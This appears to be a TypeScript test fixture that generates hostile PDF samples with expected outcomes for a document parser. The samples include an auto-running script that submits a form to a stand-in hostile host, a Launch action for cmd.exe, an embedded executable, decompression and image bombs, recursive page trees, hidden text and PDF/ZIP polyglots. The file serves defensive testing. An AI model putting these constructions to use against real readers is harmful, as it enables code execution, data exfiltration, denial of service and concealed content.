import { deflateSync } from "node:zlib";
import { ADDRESS, type HostileFile, noise } from "./hostile-file";
import { onePage, packed, pdfOf, SHOWN } from "./pdf-writer";

const KEY = `<${"00".repeat(32)}>`;
const MB = 1024 * 1024;
const pdf = (id: string, attack: string, bytes: () => Buffer, more: Partial<HostileFile> = {}): HostileFile => ({ id, name: `${id}.pdf`, attack, bytes, verdict: "read", ...more });
const secret = (operators: string) => `${SHOWN} BT /F1 12 Tf ${operators} (The real price is nine million pounds.) Tj ET`;
const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
const script = (what: string) => ({ catalog: `/OpenAction ${what}` });

/** PDFs that act, hide, never end or unpack to gigabytes. */
export const PDF_FILES: readonly HostileFile[] = [
  pdf("pdf-truncated", "cut in half", () => onePage().subarray(0, 500), { verdict: "either" }),
  pdf("pdf-header-only", "a header with nothing behind it", () => Buffer.from("%PDF-1.7\n"), { verdict: "refused", words: /damaged/ }),
  pdf("pdf-noise", "a header with noise behind it", () => Buffer.concat([Buffer.from("%PDF-1.7\n"), noise(200_000)]), { verdict: "refused", words: /damaged/ }),
  pdf("pdf-encrypted", "a password", () => pdfOf([catalog, "<< /Type /Pages /Kids [] /Count 0 >>"], `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${KEY} /U ${KEY} /P -4 >> /ID [${KEY} ${KEY}]`), { verdict: "refused", words: /password/ }),
  pdf("pdf-javascript", "a script that runs when opened", () => onePage(script("<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://hostile.invalid'\\)) >>")), { flags: ["pdf-script"] }),
  pdf("pdf-javascript-packed", "the same in a packed object, with an escaped name", () => onePage({ catalog: "/OpenAction 6 0 R", more: ["<< /S /Java#53cript /JS 7 0 R >>", packed("app.alert(1)")] }), { flags: ["pdf-script"] }),
  pdf("pdf-launch", "an action that starts a program", () => onePage(script("<< /S /Launch /F (cmd.exe) >>")), { flags: ["pdf-script"] }),
  pdf("pdf-uri", "an action that opens an address", () => onePage(script(`<< /S /URI /URI (${ADDRESS}/beacon) >>`))),
  pdf("pdf-embedded", "an embedded program", () => onePage({ catalog: "/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>", more: ["<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>", packed(noise(5000), "/Type /EmbeddedFile")] }), { flags: ["embedded-files"] }),
  pdf("pdf-rich-media", "a film with a program", () => onePage({ page: "/Annots [6 0 R]", more: ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"] }), { flags: ["pdf-script"] }),
  pdf("pdf-remote", "content and fonts in files on the network", () => onePage({ content: SHOWN, more: [{ dictionary: `/F << /FS /URL /F (${ADDRESS}/s) >>`, stream: "" }], page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (${ADDRESS}/r.pdf) /D [0 /Fit] >> >>]` })),
  pdf("pdf-endless-tree", "a page tree that contains itself", () => pdfOf([catalog, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]), { verdict: "either" }),
  pdf("pdf-parent-loop", "two nodes that are each other's parents", () => pdfOf([catalog, "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]), { verdict: "either" }),
  pdf("pdf-count-lie", "a page tree that claims 2,000 million pages", () => pdfOf([catalog, "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"]), { verdict: "either" }),
  pdf("pdf-deep-tree", "a page tree 50,000 deep", () => pdfOf([catalog, ...Array.from({ length: 50_000 }, (_, n) => `<< /Type /Pages /Kids [${n + 3} 0 R] /Count 1 >>`), "<< /Type /Page /MediaBox [0 0 9 9] >>"]), { verdict: "either" }),
  pdf("pdf-shared-page", "one page shown 30,000 times", () => pdfOf([catalog, `<< /Type /Pages /Kids [${"3 0 R ".repeat(30_000)}] /Count 30000 >>`, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"]), { verdict: "either" }),
  pdf("pdf-deep-array", "arrays nested 500,000 deep", () => onePage({ catalog: `/X ${"[".repeat(500_000)}${"]".repeat(500_000)}` }), { verdict: "either" }),
  pdf("pdf-length-lie", "a stream that claims 2 GB", () => pdfOf([catalog, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>", { dictionary: "", stream: SHOWN, length: 2_000_000_000 }]), { verdict: "either" }),
  pdf("pdf-flate-bomb", "a content stream of 400 MB", () => pdfOf([catalog, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>", packed(Buffer.alloc(400 * MB, " "))]), { verdict: "either" }),
  pdf("pdf-flate-twice", "a stream packed three times", () => onePage({ page: "/Contents 6 0 R", more: [{ dictionary: "/Filter [/FlateDecode /FlateDecode /FlateDecode]", stream: deflateSync(deflateSync(deflateSync(Buffer.alloc(300 * MB, " ")))) }] }), { verdict: "either" }),
  pdf("pdf-jbig2-bomb", "a JBIG2 picture of 60,000 × 60,000", () => onePage({ content: `q 600 0 0 700 0 0 cm /I Do Q ${SHOWN}`, resources: "/XObject << /I 6 0 R >>", more: [{ dictionary: "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode", stream: Buffer.concat([Buffer.from("00000000300001000000130000ea600000ea60000000000000000000000000", "hex"), noise(100)]) }] }), { verdict: "either" }),
  pdf("pdf-pixel-bomb", "a picture of 50,000 × 50,000", () => onePage({ content: `q 600 0 0 700 0 0 cm /I Do Q ${SHOWN}`, resources: "/XObject << /I 6 0 R >>", more: [packed(Buffer.alloc(4 * MB), "/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /BitsPerComponent 8 /ColorSpace /DeviceRGB")] }), { verdict: "either" }),
  pdf("pdf-scan-jbig2", "a scan that is a JBIG2 picture of 60,000 × 60,000", () => onePage({ content: "q 600 0 0 700 0 0 cm /I Do Q", resources: "/XObject << /I 6 0 R >>", more: [{ dictionary: "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode", stream: Buffer.concat([Buffer.from("00000000300001000000130000ea600000ea60000000000000000000000000", "hex"), noise(100)]) }] }), { verdict: "either" }),
  pdf("pdf-scan-noise", "a scan that is a JPX picture of noise", () => onePage({ content: "q 600 0 0 700 0 0 cm /I Do Q", resources: "/XObject << /I 6 0 R >>", more: [{ dictionary: "/Type /XObject /Subtype /Image /Width 3000 /Height 3000 /Filter /JPXDecode", stream: noise(50_000) }] }), { verdict: "either" }),
  pdf("pdf-scan-strokes", "a page without words and with half a million strokes", () => onePage({ content: Array.from({ length: 500_000 }, (_, n) => `${n % 600} ${n % 790} m ${(n * 7) % 600} ${(n * 13) % 790} l S`).join("\n") }), { verdict: "either" }),
  pdf("pdf-million-objects", "a million objects", () => pdfOf([catalog, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", ...Array.from({ length: 1_000_000 }, () => "null")]), { verdict: "either" }),
  pdf("pdf-form-loop", "a form that draws itself", () => onePage({ content: `${SHOWN} /X Do`, resources: "/XObject << /X 6 0 R >>", more: [{ dictionary: "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>", stream: "/X Do /X Do" }] }), { verdict: "either" }),
  pdf("pdf-huge-font", "a font of 20 MB of noise", () => onePage({ content: "BT /F2 12 Tf 72 700 Td (Text in a broken font) Tj ET", page: "/Resources << /Font << /F2 6 0 R >> >>", more: ["<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 7 0 R >>", "<< /Type /FontDescriptor /FontName /X /FontFile2 8 0 R /Flags 4 >>", packed(noise(20 * MB))] }), { verdict: "either" }),
  pdf("pdf-media-box", "a page of a thousand kilometres", () => onePage({ mediaBox: "[0 0 3e9 3e9]" })),
  pdf("pdf-media-box-odd", "a page of no size, upside down, of NaN", () => onePage({ mediaBox: "[9 9 -1e38 NaN]" }), { verdict: "either" }),
  pdf("pdf-white", "white words on white", () => onePage({ content: secret("1 1 1 rg 72 600 Td") }), { flags: ["hidden-text"] }),
  pdf("pdf-tiny", "words a tenth of a point tall", () => onePage({ content: secret("0.1 0 0 0.1 72 600 Tm /F1 1 Tf") }), { flags: ["hidden-text"] }),
  pdf("pdf-off-page", "words beside the page", () => onePage({ content: secret("-4000 600 Td") }), { flags: ["hidden-text"] }),
  pdf("pdf-invisible", "words in the invisible mode", () => onePage({ content: secret("3 Tr 72 600 Td") }), { flags: ["hidden-text"] }),
  pdf("pdf-zip", "a PDF that is an archive as well", () => Buffer.concat([onePage(), Buffer.from("504b0304140000000000", "hex"), noise(300), Buffer.from("504b0102", "hex"), noise(60), Buffer.from("504b0506000000000100010040000000000000000000", "hex")]), { flags: ["two-formats"] }),
  pdf("pdf-late", "a PDF behind a web page", () => Buffer.concat([Buffer.from("<html><script>alert(1)</script>\0"), onePage()]), { verdict: "either" }),
];
